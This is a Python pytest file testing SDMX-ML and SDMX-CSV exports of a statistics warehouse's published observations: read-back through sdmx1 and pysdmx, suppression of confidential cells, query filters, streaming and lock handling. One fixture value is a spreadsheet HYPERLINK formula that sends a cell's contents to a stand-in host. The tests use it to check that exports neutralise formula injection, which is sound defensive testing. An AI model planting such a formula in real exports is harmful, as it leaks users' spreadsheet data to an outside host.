"""The SDMX data messages over published.observations: read back by clients no one here wrote (sdmx1 for SDMX-ML
and SDMX-CSV 2.0, pysdmx for SDMX-CSV), they give the published cells exactly, suppressed cells as NaN with
OBS_STATUS Q; only the published layer is read; the answer is a stream, and the warehouse is let go when it ends.

Runs on DuckDB, and on Postgres too when a server is given (MNR_PG_*, as .ci/run does)."""

import io
import math
import os
import re
import uuid

import duckdb
import fcntl
import pandas as pd
import pytest
import sdmx

from pipelines.publish.publish import COLUMNS, DDL
from pipelines.sdmx import data as D
from pipelines.sdmx import query as Q
from pipelines.sdmx import structure as st
from pipelines.sdmx.errors import SdmxError
from pipelines.settings import Paths
from pipelines.warehouse import lock_path

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'
HOSTILE = 'He said "stop" & <b>left</b>,\nthen\x01 \u0645\u0631\u062d\u0628\u0627'
ROWS = [
    # ref_area, time_period, indicator, domain, capability, sex, age, offence, value, unit, status, conf, submission,
    # source_ref, comment
    ("KEN", 2021, "CJ_CONVICTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "_T", 118.0, "PERSONS", "A", "F",
     "KEN-aaaaaaaaaaaa", "row 2, column value", None),
    ("KEN", 2022, "CJ_CONVICTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "_T", 130.0, "PERSONS", "P", "F",
     "KEN-aaaaaaaaaaaa", "row 3, column value", HOSTILE),
    ("KEN", 2022, "CJ_VICTIMS_IDENTIFIED", "CRIMINAL_JUSTICE", 3, "F", "Y0T17", "_T", None, "PERSONS", "Q", "C",
     "KEN-aaaaaaaaaaaa", "Data!C5", None),
    ("KEN", 2022, "CJ_VICTIMS_IDENTIFIED", "CRIMINAL_JUSTICE", 3, "M", "Y0T17", "_T", None, "PERSONS", "Q", "D",
     "KEN-aaaaaaaaaaaa", "Data!C6", ""),
    ("KEN", 2022, "CJ_VICTIMS_IDENTIFIED", "CRIMINAL_JUSTICE", 3, "_T", "Y0T17", "_T", 11.0, "PERSONS", "A", "F",
     "KEN-aaaaaaaaaaaa", "Data!C7", None),
    ("UGA", 2020, "IN_REMOVED_3D_PCT", "INDUSTRY", 17, "_Z", "_Z", "_Z", 0.1, "PCNT", "E", "F",
     "UGA-bbbbbbbbbbbb", "Sheet1!D7", "estimate, provisional"),
    ("UGA", 2021, "CJ_PROSECUTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "030221", 12345678.25, "PERSONS", "A", "F",
     "UGA-bbbbbbbbbbbb", "Sheet1!D8", None),
    ("UGA", 2021, "CJ_PROSECUTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "030223", 1e-7, "PERSONS", "A", "F",
     "UGA-bbbbbbbbbbbb", "Sheet1!D9", None),
    ("BRA", 2023, "PG_LAW_GROOMING", "POLICY_GOVERNANCE", 3, "_Z", "_Z", "_Z", 1.0, "BOOL", "A", "F",
     "BRA-cccccccccccc", "row 4, column valor", FORMULA),
    ("BRA", 2023, "CJ_CONVICTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "_T", 7.0, "PERSONS", "A", "F",
     "BRA-cccccccccccc", "row 5, column valor", "-3.5"),
]
RESTRICTED = ("UGA", 2021, "PG_MNR_MATURITY", "POLICY_GOVERNANCE", 1, "_Z", "_Z", "_Z", 3.0, "CODE", "A", "F",
              "UGA-bbbbbbbbbbbb", "Sheet1!D10", None)
# What the restricted marts layer holds for the suppressed cells: never to be seen in an answer.
UNSUPPRESSED = 2.0


def writer_could_start(path) -> bool:
    """Whether a pipeline run could take the warehouse now: the exclusive lock, from a file description of its own
    (flock locks of one process's different open files conflict as those of two processes do)."""
    fd = os.open(lock_path(path), os.O_RDWR | os.O_CREAT, 0o640)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        return True
    except BlockingIOError:
        return False
    finally:
        os.close(fd)


def _fill(execute, executemany):
    for stmt in DDL.split(";"):
        if stmt.strip():
            execute(stmt)
    executemany("insert into published.observations values (" + ", ".join(["?"] * len(COLUMNS)) + ")",
                [*ROWS, RESTRICTED])
    execute("create schema if not exists marts")
    execute("create table marts.fct_observations as select * from published.observations")
    execute(f"update marts.fct_observations set obs_value = {UNSUPPRESSED} where obs_value is null")


def _duckdb(tmp):
    """An MNR_HOME whose warehouse holds ROWS (and the restricted marts layer beside them)."""
    (tmp / "state").mkdir(parents=True, exist_ok=True)
    path = tmp / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        _fill(con.execute, con.executemany)
    return path


@pytest.fixture(scope="module", params=["duckdb", "postgres"])
def warehouse(request, tmp_path_factory):
    """(path, connector) of a warehouse holding ROWS in published.observations."""
    if request.param == "duckdb":
        path = _duckdb(tmp_path_factory.mktemp("sdmx"))
        yield path, D.published_connector(Paths(path.parent), 5)
        return
    if not os.environ.get("MNR_PG_HOST"):
        pytest.skip("no Postgres server: set MNR_PG_* (.ci/run starts one with .ci/postgres.sh)")
    import psycopg

    from pipelines.warehouse import Db, postgres_settings

    name = f"mnr_sdmx_{uuid.uuid4().hex[:10]}"
    settings = postgres_settings()
    with psycopg.connect(**settings, autocommit=True) as con:
        con.execute(f'create database "{name}" template template0 encoding \'UTF8\'')
    from pipelines.query import reader_grants

    reader, password = f"{name}_reader", uuid.uuid4().hex
    mp = pytest.MonkeyPatch()
    mp.setenv("MNR_DBT_TARGET", "postgres")
    mp.setenv("MNR_PG_DATABASE", name)
    mp.setenv("MNR_PG_QUERY_USER", reader)
    mp.setenv("MNR_PG_QUERY_PASSWORD", password)
    with psycopg.connect(**{**settings, "dbname": name}, autocommit=True) as raw:
        db = Db(raw, "postgres")
        _fill(db.execute, db.executemany)
        db.execute(f"create role {reader} login password '{password}'")
        for grant in reader_grants(reader):        # the published schema only, restricted rows left out
            db.execute(grant)
    yield None, D.published_connector(Paths(tmp_path_factory.mktemp("pg")), 5)
    mp.undo()
    with psycopg.connect(**settings, autocommit=True) as con:
        con.execute(f'drop database if exists "{name}" with (force)')
        con.execute(f"drop role if exists {reader}")


@pytest.fixture(scope="module")
def dsd():
    body = st.structure_message(Q.structure_query("dataflow", params={"references": "all"}).artefacts)
    return sdmx.read_sdmx(io.BytesIO(body)).structure[st.DSD]


def answer(warehouse, key=None, params=None, accept=None) -> bytes:
    query = Q.data_query(key, None, params or {})
    return b"".join(D.DataResponse(query, Q.data_format(accept), warehouse[1]))


def by_key(rows):
    return {(r[0], r[2], r[5], r[6], r[7], str(r[1])): r for r in rows}


def expect(rows=ROWS):
    return by_key(rows)


def assert_cells(frame: pd.DataFrame, rows=ROWS, newlines=True, spreadsheet=False):
    """Every published cell once, with its value (NaN when suppressed) and attributes as published."""
    got = {}
    for idx, r in frame.reset_index().iterrows():
        got[(r["REF_AREA"], r["INDICATOR"], r["SEX"], r["AGE"], r["OFFENCE"], str(r["TIME_PERIOD"]))] = r
    want = expect(rows)
    assert set(got) == set(want)
    for k, row in want.items():
        g = got[k]
        value = row[8]
        if value is None:
            assert math.isnan(float(g["value"])) and g["OBS_STATUS"] == "Q" and g["OBS_CONF"] in ("C", "D"), k
        else:
            assert float(g["value"]) == value, k
        assert (g["OBS_STATUS"], g["OBS_CONF"], g["UNIT_MEASURE"], g["SUBMISSION_ID"], g["SOURCE_REF"]) == \
            (row[10], row[11], row[9], row[12], row[13]), k
        assert (g["MNR_DOMAIN"], str(g["MNR_CAPABILITY"])) == (row[3], str(row[4])), k
        comment = (row[14] or "").replace("\x01", "\ufffd").replace("\n", "\n" if newlines else "")
        if spreadsheet and comment == FORMULA:     # SDMX-CSV: a formula is written as text, as in releases
            comment = "'" + comment
        assert (g["COMMENT"] if isinstance(g["COMMENT"], str) else "") == comment, k


@pytest.mark.parametrize("accept", [None, Q.GENERIC_DATA])
@pytest.mark.parametrize("at_obs", ["TIME_PERIOD", "AllDimensions", "REF_AREA", "SEX"])
def test_sdmx1_reads_every_published_cell_back(warehouse, dsd, accept, at_obs):
    body = answer(warehouse, params={"dimensionAtObservation": at_obs}, accept=accept)
    msg = sdmx.read_sdmx(io.BytesIO(body), structure=dsd)
    assert_cells(sdmx.to_pandas(msg.data[0], attributes="o"))
    assert str(UNSUPPRESSED) not in body.decode() and b"PG_MNR_MATURITY" not in body


def test_pysdmx_reads_the_sdmx_csv_answers(warehouse):
    from pysdmx.io import read_sdmx

    for accept in (Q.CSV_1, "text/csv", Q.CSV_2):
        body = answer(warehouse, accept=accept)
        ds = read_sdmx(body.decode("utf-8")).data[0]
        assert ds.short_urn == "Dataflow=MNR:DF_MNR_OCSEA(1.0.0)"
        frame = ds.data.rename(columns={"OBS_VALUE": "value"}).replace({"": None})
        frame["value"] = frame["value"].astype("float64")
        assert_cells(frame, spreadsheet=True)
        assert body.startswith(b"DATAFLOW,REF_AREA," if accept != Q.CSV_2 else b"STRUCTURE,STRUCTURE_ID,ACTION,")


def test_sdmx1_reads_the_sdmx_csv_2_answer(warehouse, dsd, tmp_path):
    """sdmx1 reads SDMX-CSV 2.0.0 only (its reader for 1.0 does not exist); the 2.0.0 answer gives it every cell."""
    f = tmp_path / "data.csv"
    f.write_bytes(answer(warehouse, accept=Q.CSV_2))
    msg = sdmx.read_sdmx(f, structure=dsd)
    # A suppressed cell's OBS_VALUE is empty, as SDMX-CSV 2.0.0 writes "no value"; sdmx1 keeps it as "", which
    # its to_pandas() cannot cast to float under pandas 3, so the frame is built from the observations here.
    frame = pd.DataFrame([{**{k: v.value for k, v in o.key.values.items()},
                           "value": float(o.value) if o.value not in ("", None) else math.nan,
                           **{k: v.value for k, v in o.attached_attribute.items()}}
                          for o in msg.data[0].obs])
    # sdmx1's CSV reader also drops a line break inside a quoted field (pysdmx and the csv module keep it).
    assert_cells(frame, newlines=False, spreadsheet=True)


def test_csv_labels_both_names_codes_in_the_language_asked_for(warehouse):
    query = Q.data_query("KEN.CJ_CONVICTIONS...", None, {})
    fmt = Q.data_format("application/vnd.sdmx.data+csv;version=1.0.0;labels=both")
    text = b"".join(D.DataResponse(query, fmt, warehouse[1], language="fr")).decode()
    assert text.splitlines()[0].startswith("DATAFLOW,REF_AREA: Reference area,INDICATOR: Indicator,")
    assert "KEN: Kenya,CJ_CONVICTIONS: Personnes condamnées" in text


def test_keys_periods_and_first_or_last_observations_select_cells(warehouse, dsd):
    def cells(key=None, **params):
        msg = sdmx.read_sdmx(io.BytesIO(answer(warehouse, key, params)), structure=dsd)
        return sorted((k.values["REF_AREA"].value, k.values["INDICATOR"].value, k.values["OFFENCE"].value,
                       str(o.dimension.values["TIME_PERIOD"].value))
                      for k, obs in msg.data[0].series.items() for o in obs)

    assert {c[0] for c in cells("KEN+UGA....")} == {"KEN", "UGA"}
    assert cells(".CJ_PROSECUTIONS...030223") == [("UGA", "CJ_PROSECUTIONS", "030223", "2021")]
    assert {c[3] for c in cells(startPeriod="2022")} == {"2022", "2023"}
    assert {c[3] for c in cells(startPeriod="2021-Q1", endPeriod="2022-Q4")} == {"2021", "2022"}
    assert cells("KEN.CJ_CONVICTIONS...", lastNObservations="1") == [("KEN", "CJ_CONVICTIONS", "_T", "2022")]
    assert cells("KEN.CJ_CONVICTIONS...", firstNObservations="1") == [("KEN", "CJ_CONVICTIONS", "_T", "2021")]


def test_detail_dataonly_and_serieskeysonly(warehouse, dsd):
    msg = sdmx.read_sdmx(io.BytesIO(answer(warehouse, params={"detail": "serieskeysonly"})), structure=dsd)
    assert len(msg.data[0].series) == len({r[:1] + r[2:3] + r[5:8] for r in ROWS})
    assert not any(msg.data[0].series.values())
    text = answer(warehouse, params={"detail": "dataonly"}).decode()
    assert "OBS_STATUS" not in text and 'OBS_VALUE="118"' in text


def test_no_match_is_404_before_anything_is_sent_and_the_warehouse_is_let_go(warehouse):
    for key, params in [("ZZZ....", {}), ("KEN....", {"startPeriod": "2030"}), (".PG_MNR_MATURITY...", {})]:
        with pytest.raises(SdmxError) as e:
            D.DataResponse(Q.data_query(key, None, params), Q.data_format(None), warehouse[1])
        assert e.value.status == 404 and e.value.code == 100
    if warehouse[0] is not None:   # DuckDB: the reader's shared lock is gone, a run could write at once
        assert writer_could_start(warehouse[0])


def test_the_answer_is_streamed_in_chunks_and_never_holds_a_run_up(warehouse, monkeypatch):
    monkeypatch.setattr(D, "GROUP_ROWS", 2)       # one query per country or two
    monkeypatch.setattr(D, "BATCH_ROWS", 1)
    monkeypatch.setattr(D, "CHUNK_BYTES", 200)
    r = D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), warehouse[1])
    assert len(r.groups) >= 3 and r.observations == len(ROWS)
    chunks = list(r)
    assert len(chunks) > 5 and all(isinstance(c, bytes) for c in chunks)
    assert b"".join(chunks).count(b"<Obs ") == len(ROWS)
    if warehouse[0] is not None:
        # DuckDB: the answer reads the published copy; a run can take the warehouse while it streams
        r = D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), warehouse[1])
        it = iter(r)
        next(it)
        assert writer_could_start(warehouse[0])
        r.close()                                   # a client that goes away half-way: the server closes it
        assert r.db.raw is not None
        with pytest.raises(duckdb.Error):
            r.db.raw.execute("select 1")            # its connection is closed


@pytest.fixture
def on_duckdb(monkeypatch):
    """The DuckDB warehouse, whichever of the module's warehouses is set up at the time."""
    monkeypatch.setenv("MNR_DBT_TARGET", "duckdb")


def test_a_warehouse_with_nothing_published_yet_is_404(tmp_path, on_duckdb):
    (tmp_path / "state").mkdir()
    duckdb.connect(str(tmp_path / "warehouse.duckdb")).close()   # the reference data loaded, say, nothing published
    for home in (tmp_path, tmp_path / "absent"):
        with pytest.raises(SdmxError) as e:
            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), D.published_connector(Paths(home), 1))
        assert e.value.status == 404 and "nothing has been published" in e.value.message


def test_while_a_run_holds_the_warehouse_the_last_copy_is_served_or_503(tmp_path, on_duckdb):
    path = _duckdb(tmp_path)
    connector = D.published_connector(Paths(tmp_path), 0.3)
    fd = os.open(lock_path(path), os.O_RDWR | os.O_CREAT, 0o640)
    fcntl.flock(fd, fcntl.LOCK_EX)       # as a run holds it, before anything was ever served
    try:
        with pytest.raises(SdmxError) as e:
            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), connector)
        assert e.value.status == 503 and e.value.headers["Retry-After"] == "60"
    finally:
        os.close(fd)
    before = b"".join(D.DataResponse(Q.data_query(None, None, {}), Q.data_format(Q.CSV_1), connector))
    fd = os.open(lock_path(path), os.O_RDWR | os.O_CREAT, 0o640)
    fcntl.flock(fd, fcntl.LOCK_EX)       # the next run: the copy made before it is served meanwhile
    try:
        during = b"".join(D.DataResponse(Q.data_query(None, None, {}), Q.data_format(Q.CSV_1), connector))
    finally:
        os.close(fd)
    assert during == before and during.count(b"\r\n") == len(ROWS) + 1


def test_only_the_published_table_is_ever_named():
    """Every query the data messages run reads published.observations and nothing else (the marts hold the
    unsuppressed values, the quality schema the findings)."""
    for fmt in ("structurespecific", "generic", "csv1", "csv2"):
        for params in ({}, {"dimensionAtObservation": "AllDimensions"}, {"dimensionAtObservation": "REF_AREA"},
                       {"detail": "serieskeysonly"}, {"lastNObservations": "2", "firstNObservations": "1"}):
            if fmt.startswith("csv") and params.get("detail"):
                continue
            query = Q.data_query("KEN+UGA....", None, {**params, "startPeriod": "2020"})
            for sql, _ in (D.render_sql(query, Q._format(fmt, {})), D.partitions_sql(query)):
                tables = set(re.findall(r"\bfrom\s+([A-Za-z_][\w.]*)", sql))
                assert tables == {"published.observations"}, (fmt, params, tables)
                assert not re.search(r"\b(marts|quality|raw|staging|intermediate|reference)\.", sql)
